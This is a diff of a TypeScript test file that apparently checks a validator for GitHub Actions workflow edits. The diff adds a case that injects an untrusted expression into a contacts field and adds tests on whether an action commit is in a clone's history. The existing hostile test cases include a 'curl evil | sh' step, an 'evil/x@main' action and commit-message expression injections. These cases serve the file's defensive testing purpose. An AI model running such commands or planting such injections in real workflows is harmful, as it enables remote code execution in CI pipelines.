@@ -63,6 +63,11 @@ const hostile: readonly Edit[] = [
     'has confirmed-key-uri: ${{',
   ],
   ['with an expression', swap(/(?<=adobe-ticket: ).*/, '${{ github.event.head_commit.message }}'), 'has adobe-ticket:'],
+  [
+    'with one among the people',
+    put(location, '          contacts: |\n            owners: ${{ github.event.head_commit.message }}\n'),
+    'has an expression in a value',
+  ],
   ['with one in a text', swap('  workflow_dispatch:', '  workflow_dispatch: # ${{ x }}\n    x: 1'), 'has x: 1'],
   ['with a step', put(steps, '      - uses: evil/x@main\n'), 'has - uses: evil/x@main'],
   ['with a step in flow style', put(steps, '      - { run: "curl evil | sh" }\n'), 'has - { run: "curl evil | sh" }'],
@@ -128,6 +133,10 @@ test.each<[string, (text: string) => string]>([
     'with values that it left out',
     put(location, '          network: restricted\n          tags: |\n            a=b\n'),
   ],
+  [
+    'with people to call',
+    put(location, '          contacts: |\n            owners: Ada, +1 555 0100\n            security: #on-call\n'),
+  ],
   ['with a ticket', swap('adobe-ticket: ""', 'adobe-ticket: "E-001234567"')],
   ['without a ticket', swap(/ *adobe-ticket: .*\n/, '')],
   ['with other quotes and letters', swap("'kv-contoso-cja'", 'KV-contoso-cja # ours')],
@@ -164,4 +173,49 @@ test.each<Edit>([
 ])('of every day %s', (_, change, printed) => {
   const { status, stdout } = compared(daily, change);
   expect([status, stdout]).toEqual([printed.startsWith('commit') ? 0 : 1, expect.stringContaining(printed)]);
+});
+
+describe('a commit of the action', () => {
+  let clone = '';
+  const git = (...args: readonly string[]) =>
+    execFileSync('git', ['-c', 'user.name=a', '-c', 'user.email=a@example.invalid', ...args], {
+      cwd: clone,
+      encoding: 'utf8',
+    }).trim();
+  const isKnown = (commit: string, where = clone) =>
+    spawnSync('bash', [
+      '-c',
+      `here=${where} action=${action}; . ${join(parts, 'options.sh')}; . ${join(parts, 'set-up-files.sh')}; in_history ${commit}`,
+    ]).status === 0;
+  const foreignCommit = 'a'.repeat(40);
+  const commits: string[] = [];
+
+  beforeAll(() => {
+    clone = mkdtempSync(join(tmpdir(), 'clone-'));
+    git('init', '--quiet', '--initial-branch', 'main');
+    for (const message of ['one', 'two']) {
+      git('commit', '--quiet', '--allow-empty', '--message', message);
+      commits.push(git('rev-parse', 'HEAD'));
+    }
+    git('remote', 'add', 'origin', 'git@github.com:Org/cja-cmk-action.git');
+  });
+  afterAll(() => rmSync(clone, { recursive: true, force: true }));
+
+  test('has to be in the history of the clone, since GitHub also runs those of forks', () => {
+    expect(commits.map((commit) => isKnown(commit))).toEqual([true, true]);
+    expect(isKnown(foreignCommit)).toBe(false);
+  });
+
+  test('that is the one which this setup names needs no history', () => {
+    expect(isKnown('1'.repeat(40))).toBe(true);
+  });
+
+  test('cannot be judged by a clone of another repository, a shallow one, or none', () => {
+    git('remote', 'set-url', 'origin', 'https://github.com/contoso/other');
+    expect(isKnown(foreignCommit)).toBe(true);
+    git('remote', 'set-url', 'origin', 'https://github.com/org/cja-cmk-action');
+    expect(isKnown(foreignCommit)).toBe(false);
+    writeFileSync(join(clone, '.git', 'shallow'), `${commits[1]}\n`);
+    expect([isKnown(foreignCommit), isKnown(foreignCommit, tmpdir())]).toEqual([true, true]);
+  });
 });
